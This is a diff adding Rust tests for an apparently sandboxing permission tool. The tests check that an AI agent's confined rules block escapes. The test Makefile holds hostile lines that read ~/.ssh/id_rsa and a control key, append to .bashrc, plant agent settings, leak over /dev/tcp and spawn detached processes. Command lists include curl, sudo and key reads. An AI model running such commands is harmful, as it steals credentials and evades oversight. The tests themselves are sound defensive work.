@@ -1,0 +1,156 @@
+//! Attacks on rules that name a profile: what an agent was allowed always, confined, gets nothing outside of its folders,
+//! whatever it makes of the files that the rule runs.
+
+use postern_tests::{Agent, Arena};
+use serde_json::{Value, json};
+use std::fs;
+use std::net::TcpListener;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+const SECRET: &str = "THE-PERSONS-KEY";
+
+/// Starts an agent with a folder of its own and no class.
+fn builder(arena: &Arena) -> Agent {
+    let folders = format!("folders={}", arena.outside().join("project-main").display());
+    arena.agent("main", &[&folders])
+}
+
+/// Requests a line that must run without a question, and returns its start and end.
+fn ran(agent: &mut Agent, line: &str) -> (Value, Value) {
+    let posted = agent.post(json!({ "shell": line }));
+    assert_ne!(posted["state"], "asking", "{line} is asked about: {posted}");
+    let started = agent.event(&["exec.started", "exec.denied"], &posted);
+    assert_eq!(started["method"], "exec.started", "{line}: {started}");
+    (started, agent.end(&posted))
+}
+
+/// Requests what must be asked about, returns the question and withdraws the request.
+fn asked(arena: &Arena, agent: &mut Agent, params: Value) -> Value {
+    let watcher = arena.watch();
+    let line = params.to_string();
+    let posted = agent.post(params);
+    assert_eq!(posted["state"], "asking", "{line}: {posted}");
+    let question = watcher.question();
+    agent.call("system.kill", &json!({ "requestId": posted["requestId"] }));
+    question
+}
+
+fn output(end: &Value) -> String {
+    let text = |name: &str| end["params"][name].as_str().unwrap_or_default().to_owned();
+    text("stdout") + &text("stderr")
+}
+
+#[test]
+fn a_makefile_that_changes_after_always_confined_gets_nothing() {
+    let Some(arena) = Arena::open() else { return };
+    let mut agent = builder(&arena);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let reached = Arc::new(AtomicUsize::new(0));
+    let count = Arc::clone(&reached);
+    std::thread::spawn(move || listener.incoming().for_each(|_| _ = count.fetch_add(1, Ordering::SeqCst)));
+    let home = arena.home().to_owned();
+    fs::create_dir_all(home.join(".ssh")).unwrap();
+    fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
+    agent.write("Makefile", "test:\n\t@echo passed > result\n", 0o644);
+    let watcher = arena.watch();
+    let posted = agent.post(json!({ "shell": "make test" }));
+    let question = watcher.question();
+    let first = &question["proposals"][0];
+    assert_eq!(
+        (&first["id"], &first["rules"][0]["confine"]),
+        (&json!("confined"), &json!("project")),
+        "{question}"
+    );
+    let saved = arena.approve(&question, &["--always", "confined"]);
+    assert!(saved.code == 0 && saved.stdout.contains("confined"), "{saved:?}");
+    let started = agent.event(&["exec.started", "exec.denied"], &posted);
+    assert_eq!(
+        started["params"]["profile"], "project",
+        "the run that was asked about is confined, too: {started}"
+    );
+    agent.end(&posted);
+    assert_eq!(fs::read_to_string(agent.project().join("result")).unwrap(), "passed\n");
+
+    let (at_home, data) = (home.display(), arena.data().display());
+    let evil = format!(
+        "test:\n\t-cat {at_home}/.ssh/id_rsa {data}/control.key\n\t-echo x > {at_home}/mark\n\
+         \t-echo x >> {at_home}/.bashrc\n\t-mkdir -p .git/hooks .claude; echo x > .claude/settings.json\n\
+         \t-bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3'\n\
+         \t-(sleep 0.2; echo x > {at_home}/mark) & setsid sh -c 'echo x > {at_home}/mark' &\n\t@echo evil ran\n"
+    );
+    agent.write("Makefile", &evil, 0o644);
+    agent.write("evil.mk", &evil, 0o644);
+    let control = fs::read_to_string(arena.data().join("control.key")).unwrap();
+    for line in [
+        "make test",
+        "make -f evil.mk test",
+        "make SHELL=/bin/bash test",
+        "X=1 make test",
+        "make -f - test < evil.mk",
+    ] {
+        let (started, end) = ran(&mut agent, line);
+        assert_eq!(started["params"]["profile"], "project", "{line}: {started}");
+        assert!(
+            started["params"]["by"].to_string().contains("rule"),
+            "{line}: a rule let it through: {started}"
+        );
+        let said = output(&end);
+        assert!(said.contains("evil ran"), "the attack itself ran: {line}: {end}");
+        assert!(!said.contains(SECRET) && !said.contains(control.trim()), "{line} read it: {said}");
+    }
+    assert!(!home.join("mark").exists() && !home.join(".bashrc").exists(), "it wrote outside");
+    assert!(!agent.project().join(".claude/settings.json").exists(), "it planted settings");
+    assert_eq!(reached.load(Ordering::SeqCst), 0, "it connected");
+    assert!(arena.ok(&["rules", "list"]).contains("confined (project)"));
+}
+
+#[test]
+fn nothing_makes_a_confined_rule_let_through_more_than_its_profile_holds() {
+    let Some(arena) = Arena::open() else { return };
+    let mut agent = builder(&arena);
+    let home = arena.home().display().to_string();
+    agent.write("Makefile", "test:\n\t@echo ran > result\n", 0o644);
+    arena.ok(&["rules", "allow", "make *", "--agent", agent.id(), "--confine", "project"]);
+    arena.ok(&["rules", "allow", "bash *", "--agent", agent.id(), "--confine", "project"]);
+    for line in [
+        "make -C /".to_owned(),
+        "make > /srv/postern-mark".to_owned(),
+        "make > .git/hooks/pre-commit".to_owned(),
+        "make && curl http://127.0.0.1:9".to_owned(),
+        "sudo make".to_owned(),
+        "bash -c 'git push origin main'".to_owned(),
+        format!("bash -c 'cat {home}/.ssh/id_rsa'"),
+    ] {
+        asked(&arena, &mut agent, json!({ "shell": line }));
+    }
+    let open = asked(
+        &arena,
+        &mut agent,
+        json!({ "shell": "make test", "confine": "none", "reason": "it needs the network" }),
+    );
+    assert!(open.to_string().contains("it asks to run with your rights"), "{open}");
+    assert!(!agent.project().join("result").exists(), "nothing of it ran");
+    // Beside a step that a rule allows with the person's rights, it is not let through with them.
+    arena.ok(&["rules", "allow", "git push *", "--agent", agent.id()]);
+    let mixed = asked(&arena, &mut agent, json!({ "shell": "make test && git push" }));
+    assert!(mixed.to_string().contains("beside the other steps"), "{mixed}");
+    let explained =
+        arena.ok(&["explain", "--agent", agent.id(), "--cwd", &agent.path(""), "--", "make", "test"]);
+    assert!(explained.contains("confined (project)") && explained.contains("writes in"), "{explained}");
+    let (started, _) = ran(&mut agent, "make test");
+    assert_eq!(started["params"]["profile"], "project");
+}
+
+#[test]
+fn a_rule_that_only_looks_holds_code_to_it() {
+    let Some(arena) = Arena::open() else { return };
+    let mut agent = builder(&arena);
+    agent.write("Makefile", "lint:\n\t-@echo x > written\n\t@echo linted\n", 0o644);
+    arena.ok(&["rules", "allow", "make lint", "--agent", agent.id(), "--confine", "look"]);
+    let (started, end) = ran(&mut agent, "make lint");
+    assert_eq!(started["params"]["profile"], "look", "{started}");
+    assert!(output(&end).contains("linted"), "{end}");
+    assert!(!agent.project().join("written").exists(), "it wrote");
+}
